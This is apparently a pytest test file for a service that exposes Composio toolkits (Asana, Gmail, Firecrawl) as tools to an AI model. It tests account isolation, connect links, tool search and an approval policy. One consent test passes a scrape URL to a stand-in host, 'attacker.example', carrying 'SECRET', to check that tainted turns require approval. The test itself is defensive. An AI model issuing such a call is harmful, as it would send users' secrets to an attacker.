from __future__ import annotations

import asyncio
import json
import subprocess
import sys
from typing import TYPE_CHECKING

import pytest

from emulators.composio.catalogue import Tool as VendorTool
from emulators.composio.catalogue import Toolkit
from emulators.composio.tools import READS
from emulators.faults import matching
from kernel_service.approvals.policy import ApprovalPolicy
from kernel_service.errors import VendorUnavailable
from kernel_service.ports.resuming import ParkedRequest
from kernel_service.ports.tools import Person, UnclearCallError
from kernel_service.tool_schemas import NAME
from kernel_service.tools.developer_tools import tool
from tests.unit.composio.fakes import CONNECT_URL, named

if TYPE_CHECKING:
    from tests.unit.composio.fakes import World

ALICE = Person("p_alice", "whatsapp", "1")
BOB = Person("p_bob", "whatsapp", "1")


@tool(read_only=True)
def greet(context: Person) -> str:
    """Greet."""
    return f"Hello {context.id}"


async def names(world: World, person: Person) -> list[str]:
    return [each.schema.name for each in await world.toolbox(greet).tools_for(person)]


async def test_one_who_has_connected_nothing(world: World) -> None:
    assert await names(world, ALICE) == ["greet", "connect", "disconnect"]
    assert not world.vendor.requests, "a first message asks nothing of Composio"


async def test_connected_toolkits_are_offered_to_their_person_alone(world: World) -> None:
    await world.connect("p_alice")
    assert await names(world, ALICE) == [
        "greet", "connect", "disconnect",
        "ASANA_LIST_TASKS", "ASANA_CREATE_TASK", "ASANA_COMPLETE_TASK", "ASANA_DELETE_TASK",
    ]  # fmt: skip
    assert await names(world, BOB) == ["greet", "connect", "disconnect"]


async def test_a_turn_asks_nothing_of_the_vendor_once_schemas_are_known(world: World) -> None:
    await world.connect("p_alice")
    await names(world, ALICE)
    before = len(world.vendor.requests)
    await names(world, ALICE)
    assert len(world.vendor.requests) == before


async def test_turns_share_their_tools_schemas_so_that_each_is_encoded_once(world: World) -> None:
    for person in ("p_alice", "p_bob"):
        await world.connect(person)
    toolbox = world.toolbox(greet)
    turns = [await toolbox.tools_for(person) for person in (ALICE, BOB, ALICE)]
    assert len({id(tool.schema) for tools in turns for tool in tools}) == len(turns[0])


async def test_people_without_accounts_share_their_tools(world: World) -> None:
    toolbox = world.toolbox(greet)
    alice, bob = [await toolbox.tools_for(person, []) for person in (ALICE, BOB)]
    assert [id(tool) for tool in alice] == [id(tool) for tool in bob]
    alice.clear()
    assert await toolbox.tools_for(ALICE) == bob


async def test_no_meta_tool_and_no_account_reaches_the_model(world: World) -> None:
    connection = await world.connect("p_alice")
    offered = await world.toolbox().tools_for(ALICE)
    shown = json.dumps([[each.schema.name, each.schema.parameters] for each in offered])
    assert "COMPOSIO_" not in shown
    assert connection.account_id not in shown


# --- connect ----------------------------------------------------------------------------------------------------


async def test_the_address_goes_to_the_person_and_never_to_the_model(world: World) -> None:
    connect = named(await world.toolbox().tools_for(ALICE), "connect")
    result = await connect.call(ALICE, {"toolkit": "Asana", "remaining": " create the task"})
    assert result.ok
    assert result.link is not None
    assert result.link.title == "Connect Asana"
    assert result.link.url.startswith(CONNECT_URL)
    assert result.parked == ParkedRequest("asana", "create the task")
    assert "http" not in result.output


@pytest.mark.parametrize(
    ("arguments", "parked"),
    [({"remaining": " "}, None), ({}, ParkedRequest("asana", "")), ({"remaining": 3}, ParkedRequest("asana", ""))],
)
async def test_the_request_that_waits_for_the_link(
    world: World, arguments: dict[str, object], parked: ParkedRequest | None
) -> None:
    """Nothing, if the model says so; if it says nothing, the person's own words do."""
    connect = named(await world.toolbox().tools_for(ALICE), "connect")
    assert (await connect.call(ALICE, {"toolkit": "asana", **arguments})).parked == parked


async def test_a_tool_by_its_name_though_it_would_have_to_be_searched_for(world: World) -> None:
    await world.connect("p_alice")
    toolbox = world.toolbox(greet, most_direct=1)
    found = [await toolbox.named(ALICE, name) for name in ("ASANA_DELETE_TASK", "greet", "connect", "GMAIL_SEND_EMAIL")]
    assert [tool and tool.schema.name for tool in found] == ["ASANA_DELETE_TASK", "greet", "connect", None]
    assert await toolbox.named(BOB, "ASANA_DELETE_TASK") is None


async def test_the_tools_that_read_the_subject_of_a_call(world: World) -> None:
    await world.connect("p_alice")
    await world.connect("p_alice", "gmail")
    toolbox = world.toolbox(greet)
    assert [each.schema.name for each in await toolbox.readers(ALICE, "ASANA_DELETE_TASK")] == ["ASANA_LIST_TASKS"]
    assert [each.schema.name for each in await toolbox.readers(ALICE, "greet")] == ["greet"]
    assert await toolbox.readers(ALICE, "GITHUB_DELETE") == []
    assert await toolbox.readers(BOB, "ASANA_DELETE_TASK") == []


async def test_disconnect_by_the_model(world: World) -> None:
    await world.connect("p_alice")
    disconnect = named(await world.toolbox().tools_for(ALICE), "disconnect")
    assert not (await disconnect.call(ALICE, {})).ok
    assert not (await disconnect.call(BOB, {"toolkit": "asana"})).ok
    assert (await disconnect.call(ALICE, {"toolkit": "Asana"})).ok
    assert not world.vendor.accounts_of("p_alice")


async def test_connected_already(world: World) -> None:
    connection = await world.connect("p_alice")
    connect = named(await world.toolbox().tools_for(ALICE), "connect")
    result = await connect.call(ALICE, {"toolkit": "asana"})
    assert (result.ok, result.link, result.output) == (True, None, "asana is connected already.")
    world.vendor.revoke(connection.account_id)
    assert (await connect.call(ALICE, {"toolkit": "asana"})).link is not None


async def test_the_model_is_told_what_is_left_of_what_the_person_has_begun(world: World) -> None:
    connect = named(await world.toolbox().tools_for(ALICE), "connect")
    again = {"toolkit": "asana", "remaining": "book a room"}
    offered = await connect.call(ALICE, {"toolkit": "asana"})
    assert "once they have used it" in offered.output
    await world.start("p_alice")
    begun = await connect.call(ALICE, again)
    assert "in the browser where they started" in begun.output
    await world.code("p_alice", browser="browser")
    only_the_code = await connect.call(ALICE, again)
    assert "only the code" in only_the_code.output
    assert begun.parked == only_the_code.parked == ParkedRequest("asana", "book a room")
    assert begun.link is not None
    assert only_the_code.link is not None
    assert offered.link is not None
    assert {offered.link.url, begun.link.url, only_the_code.link.url} == {offered.link.url}
    assert not any("http" in result.output for result in (offered, begun, only_the_code))


async def test_a_new_link_where_the_person_asks_for_one(world: World) -> None:
    connect = named(await world.toolbox().tools_for(ALICE), "connect")
    await world.code("p_alice")
    for unsaid in (False, None, "no"):
        assert "only the code" in (await connect.call(ALICE, {"toolkit": "asana", "new_link": unsaid})).output
    assert "once they have used it" in (await connect.call(ALICE, {"toolkit": "asana", "new_link": True})).output
    assert not world.vendor.accounts_of("p_alice")


async def test_a_refused_toolkit_names_the_allowed_ones(world: World) -> None:
    world.restart("asana", "gmail")
    connect = named(await world.toolbox().tools_for(ALICE), "connect")
    assert "asana, gmail" in connect.schema.description
    assert connect.schema.parameters["properties"]["toolkit"]["enum"] == ["asana", "gmail"]
    result = await connect.call(ALICE, {"toolkit": "hackernews"})
    assert not result.ok
    assert "asana, gmail" in result.output


@pytest.mark.parametrize("arguments", [{}, {"toolkit": 3}, {"toolkit": "nope"}, {"toolkit": "x" * 100}])
async def test_an_invalid_toolkit_is_refused(world: World, arguments: dict[str, object]) -> None:
    connect = named(await world.toolbox().tools_for(ALICE), "connect")
    result = await connect.call(ALICE, arguments)
    assert (result.ok, result.link) == (False, None)


async def test_connect_while_the_vendor_is_away(world: World) -> None:
    connect = named(await world.toolbox().tools_for(ALICE), "connect")
    world.vendor.fail(500)
    with pytest.raises(VendorUnavailable):
        await connect.call(ALICE, {"toolkit": "asana"})
    assert (await connect.call(ALICE, {"toolkit": "asana"})).link is not None


# --- tools of toolkits ------------------------------------------------------------------------------------------


async def test_each_call_uses_the_callers_account(world: World) -> None:
    accounts = {person: (await world.connect(person)).account_id for person in ("p_alice", "p_bob")}
    toolbox = world.toolbox()

    async def create(person: Person, number: int) -> None:
        create = named(await toolbox.tools_for(person), "ASANA_CREATE_TASK")
        await create.call(person, {"name": f"{person.id} {number}"})

    await asyncio.gather(*(create(person, number) for number in range(10) for person in (ALICE, BOB)))
    effects = world.effects.all("tool_execution")
    assert len(effects) == 20
    for effect in effects:
        assert effect.detail["account"] == accounts[effect.person]
        assert effect.detail["arguments"]["name"].startswith(effect.person)


async def test_a_tool_works_for_the_person_who_calls_it(world: World) -> None:
    """A Tool object holds nobody's account: the caller's own is looked up at each call."""
    await world.connect("p_alice")
    lists = named(await world.toolbox().tools_for(ALICE), "ASANA_LIST_TASKS")
    result = await lists.call(BOB, {})
    assert not result.ok
    assert "not connected" in result.output
    assert not world.effects.all("tool_execution")


async def test_an_account_disconnected_in_mid_turn_is_barred(world: World) -> None:
    await world.connect("p_alice")
    lists = named(await world.toolbox().tools_for(ALICE), "ASANA_LIST_TASKS")
    await world.connections.disconnect("p_alice", toolkit="asana")
    assert not (await lists.call(ALICE, {})).ok
    assert not world.effects.all("tool_execution")


async def test_a_forgotten_session_is_not_noticed(world: World) -> None:
    await world.connect("p_alice")
    lists = named(await world.toolbox().tools_for(ALICE), "ASANA_LIST_TASKS")
    world.vendor._sessions.delete(await world.connections.sessions.of("p_alice"))
    assert (await lists.call(ALICE, {})).ok
    assert world.count("tool_execution", "p_alice") == 1


async def test_tools_that_cannot_be_asked_for_hold_the_turn(world: World) -> None:
    await world.connect("p_alice")
    world.vendor.fail(500, match=matching(path="/tools"))
    with pytest.raises(VendorUnavailable):
        await world.toolbox().tools_for(ALICE)


async def test_a_toolkit_that_composio_gave_up_spoils_nothing(world: World) -> None:
    await world.connect("p_alice")
    world.vendor.fail(404, match=matching(path="/tools"))
    assert await names(world, ALICE) == ["greet", "connect", "disconnect"]


@pytest.mark.parametrize("slug", ["ASANA_" + "X" * 80, "ASANA.DO", "ASANA_SEND/IT"])
async def test_names_that_the_models_vendor_refuses_are_replaced(world: World, slug: str) -> None:
    odd = VendorTool(slug, "asana", "Odd", "Do it.", (), {}, (), lambda _place, _arguments: {"done": True})
    world.vendor.catalogue.add(Toolkit("asana", "Asana", "Tasks."), odd)
    await world.connect("p_alice")
    (offered,) = [each for each in await world.toolbox().tools_for(ALICE) if each.schema.title.endswith("Odd")]
    assert NAME.fullmatch(offered.schema.name)
    assert (await offered.call(ALICE, {})).output == '{"done":true}'
    assert world.effects.all("tool_execution")[-1].key == slug
    assert ApprovalPolicy()(offered, {}, tainted=False)


async def test_a_name_that_comes_twice_or_is_ours_is_offered_once(world: World) -> None:
    await world.connect("p_alice")
    listed = {"slug": "ASANA_A", "description": "first"}, {"slug": "ASANA_A"}, {"slug": "connect"}, {"slug": "greet"}
    body = json.dumps({"items": [*listed, None, 3, {}, {"slug": None}, {"slug": ""}], "next_cursor": None})
    world.vendor.fail(200, body=body, match=matching(path="/tools"))
    offered = await world.toolbox(greet).tools_for(ALICE)
    assert [each.schema.name for each in offered] == ["greet", "connect", "disconnect", "ASANA_A"]
    assert offered[-1].schema.description == "first"


async def test_an_endless_list_of_pages_ends(world: World) -> None:
    await world.connect("p_alice")
    world.vendor.fail(200, times=9, body=json.dumps({"items": [], "next_cursor": "x"}), match=matching(path="/tools"))
    assert await names(world, ALICE) == ["greet", "connect", "disconnect"]


# --- several accounts of one toolkit ----------------------------------------------------------------------------


async def test_of_several_accounts_the_person_says_which(world: World) -> None:
    first = await world.connect("p_alice")
    connect = named(await world.toolbox().tools_for(ALICE), "connect")
    offered = await connect.call(ALICE, {"toolkit": "asana", "account_name": "work", "remaining": ""})
    assert offered.link is not None
    second = await world.connect("p_alice", name="work")
    create = named(await world.toolbox().tools_for(ALICE), "ASANA_CREATE_TASK")
    names = create.schema.parameters["properties"]["which_account"]["enum"]
    assert names == ["since 2027-01-15", "work"]
    unsaid = await create.call(ALICE, {"name": "x"})
    assert not unsaid.ok
    assert "since 2027-01-15, work" in unsaid.output
    for name, connection in zip(names, (first, second), strict=True):
        assert (await create.call(ALICE, {"name": "x", "which_account": name.upper()})).ok
        effect = world.effects.all("tool_execution")[-1]
        assert effect.detail["account"] == connection.account_id
        assert effect.detail["arguments"] == {"name": "x"}, "the account is no argument of the tool's own"


async def test_of_several_accounts_one_is_disconnected(world: World) -> None:
    first, _ = await world.connect("p_alice"), await world.connect("p_alice", name="work")
    disconnect = named(await world.toolbox().tools_for(ALICE), "disconnect")
    assert not (await disconnect.call(ALICE, {"toolkit": "asana"})).ok
    assert (await disconnect.call(ALICE, {"toolkit": "asana", "which_account": "work"})).ok
    assert await world.connections.active("p_alice", "asana") == [first]
    create = named(await world.toolbox().tools_for(ALICE), "ASANA_CREATE_TASK")
    assert not (await create.call(ALICE, {"name": "x", "which_account": "work"})).ok, "not with another one instead"
    assert "which_account" not in create.schema.parameters["properties"]


async def test_which_account_a_call_would_use(world: World) -> None:
    """An approval holds for that account only."""
    tools = world.toolbox(greet)

    async def would_use(name: str, **arguments: str) -> str:
        return await named(await tools.tools_for(ALICE), name).account_for(ALICE, arguments)

    assert await would_use("disconnect", toolkit="asana") == ""
    work = await world.connect("p_alice", name="work")
    assert (
        await would_use("ASANA_DELETE_TASK", task_gid="1") == await would_use("disconnect", toolkit="Asana") == work.id
    )
    private = await world.connect("p_alice", name="private")
    for unsaid in (would_use("ASANA_DELETE_TASK"), would_use("disconnect", toolkit="asana")):
        with pytest.raises(UnclearCallError, match="work, private"):
            await unsaid
    assert await would_use("ASANA_DELETE_TASK", which_account="Private") == private.id
    await world.connections.disconnect("p_alice", connection_id=work.id)
    assert await would_use("ASANA_DELETE_TASK") == private.id
    assert await would_use("greet") == await would_use("connect", toolkit="asana") == ""


# --- search -----------------------------------------------------------------------------------------------------


async def test_many_tools_are_searched_for(world: World) -> None:
    await world.connect("p_alice")
    await world.connect("p_alice", "gmail")
    toolbox = world.toolbox(most_direct=5)
    offered = await toolbox.tools_for(ALICE)
    assert [each.schema.name for each in offered] == ["connect", "disconnect", "search_tools"]
    result = await named(offered, "search_tools").call(ALICE, {"query": "send an email"})
    assert "GMAIL_SEND_EMAIL" in [each.schema.name for each in result.found]
    assert json.loads(result.output)["found"][0]["name"] == result.found[0].schema.name
    sent = await named(result.found, "GMAIL_SEND_EMAIL").call(ALICE, {"recipient_email": "a@mail.example"})
    assert sent.ok
    assert world.count("tool_execution", "p_alice") == 1


async def test_tools_that_no_request_holds_are_searched_for(world: World) -> None:
    shown = {"properties": {f"p{n}": {"type": "string", "description": "x" * 100} for n in range(100)}}
    slugs = [f"ASANA_LARGE_{n}" for n in range(25)]
    tools = [VendorTool(slug, "asana", slug, "Large.", (), {}, (), lambda _p, _a: {}, shown) for slug in slugs]
    world.vendor.catalogue.add(Toolkit("asana", "Asana", "Tasks."), *tools)
    await world.connect("p_alice")
    assert await names(world, ALICE) == ["greet", "connect", "disconnect", "search_tools"]


async def test_search_finds_only_what_is_connected(world: World) -> None:
    await world.connect("p_alice")
    search = named(await world.toolbox(most_direct=1).tools_for(ALICE), "search_tools")
    result = await search.call(ALICE, {"query": "send an email, list tasks"})
    assert result.found
    assert all(each.schema.name.startswith("ASANA_") for each in result.found)


@pytest.mark.parametrize("arguments", [{}, {"query": ""}, {"query": 3}])
async def test_an_invalid_search_is_refused(world: World, arguments: dict[str, object]) -> None:
    await world.connect("p_alice")
    search = named(await world.toolbox(most_direct=1).tools_for(ALICE), "search_tools")
    assert not (await search.call(ALICE, arguments)).ok


def test_the_heavy_sdk_is_never_imported() -> None:
    code = (
        "import sys, kernel_service.tools.toolbox, kernel_service.composio.client, "
        "kernel_service.tools.developer_tools; sys.exit('composio' in sys.modules)"
    )
    assert subprocess.run([sys.executable, "-c", code], check=False).returncode == 0


# --- consent: a tool as Composio describes it, and as a turn gets it ------------------------------------------------


async def test_a_scrape_runs_for_the_person_and_asks_in_a_tainted_turn(world: World) -> None:
    scrape = VendorTool("FIRECRAWL_SCRAPE", "firecrawl", "Scrape", "Read.", READS, {}, (), lambda _p, _a: {})
    world.vendor.catalogue.add(Toolkit("firecrawl", "Firecrawl", "Web pages."), scrape)
    await world.connect("p_alice", "firecrawl")
    offered = await world.toolbox().named(ALICE, "FIRECRAWL_SCRAPE")
    assert offered is not None
    given = {"url": "https://attacker.example/?d=SECRET"}
    assert [ApprovalPolicy()(offered, given, tainted=tainted) for tainted in (False, True)] == [False, True]


async def test_by_default_the_emulated_toolkits_ask_for_what_deletes_or_sends(world: World) -> None:
    await world.connect("p_alice")
    await world.connect("p_alice", "gmail")
    offered = await world.toolbox().tools_for(ALICE)
    asked = [each.schema.name for each in offered if ApprovalPolicy()(each, {}, tainted=False)]
    assert asked == ["disconnect", "ASANA_DELETE_TASK", "GMAIL_SEND_EMAIL"]
